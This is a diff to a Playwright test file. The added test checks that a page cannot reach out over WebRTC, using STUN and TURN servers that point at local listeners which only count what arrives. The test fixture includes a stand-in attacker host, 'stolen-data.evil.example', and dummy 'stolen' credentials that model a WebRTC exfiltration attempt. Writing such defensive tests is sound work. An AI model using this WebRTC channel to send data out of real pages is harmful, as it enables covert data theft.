@@ -1,3 +1,4 @@
+import { createSocket } from 'node:dgram';
 import { type AddressInfo, createServer } from 'node:net';
 import type { Page } from '@playwright/test';
 import { findListeningPorts, listDescendants } from '../support/processes.ts';
@@ -122,6 +123,47 @@ test('nothing leaves the window', async ({ page }) => {
   expect(listener.connections()).toBe(0);
   await listener.stop();
 });
+
+test('WebRTC, which the policy does not govern, reaches nobody either', async ({ page }) => {
+  const [tcp, udp] = [await startListener(), await startUdpListener()];
+  const state = await page.evaluate(
+    async ([stun, turn]) => {
+      const peer = new RTCPeerConnection({
+        iceServers: [
+          { urls: `stun:${stun}` },
+          { urls: `turn:${turn}?transport=tcp`, username: 'stolen', credential: 'data' },
+          { urls: 'stun:stolen-data.evil.example' },
+        ],
+      });
+      peer.createDataChannel('x');
+      await peer.setLocalDescription(await peer.createOffer());
+      // Gathering ends by itself when there is no way out; with one it goes on.
+      for (let turns = 0; turns < 100 && peer.iceGatheringState !== 'complete'; turns += 1) {
+        await new Promise((resolve) => setTimeout(resolve, 50));
+      }
+      return peer.iceGatheringState;
+    },
+    [udp.host, tcp.host],
+  );
+  expect(state).toBe('complete');
+  expect([udp.packets(), tcp.connections()]).toEqual([0, 0]);
+  await tcp.stop();
+  await udp.stop();
+});
+
+/** A socket that only counts what arrives. */
+async function startUdpListener() {
+  let packets = 0;
+  const socket = createSocket('udp4', () => {
+    packets += 1;
+  });
+  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
+  return {
+    host: `127.0.0.1:${socket.address().port}`,
+    packets: () => packets,
+    stop: () => new Promise<void>((resolve) => socket.close(() => resolve())),
+  };
+}
 
 /** A server that only counts who connects. */
 async function startListener() {
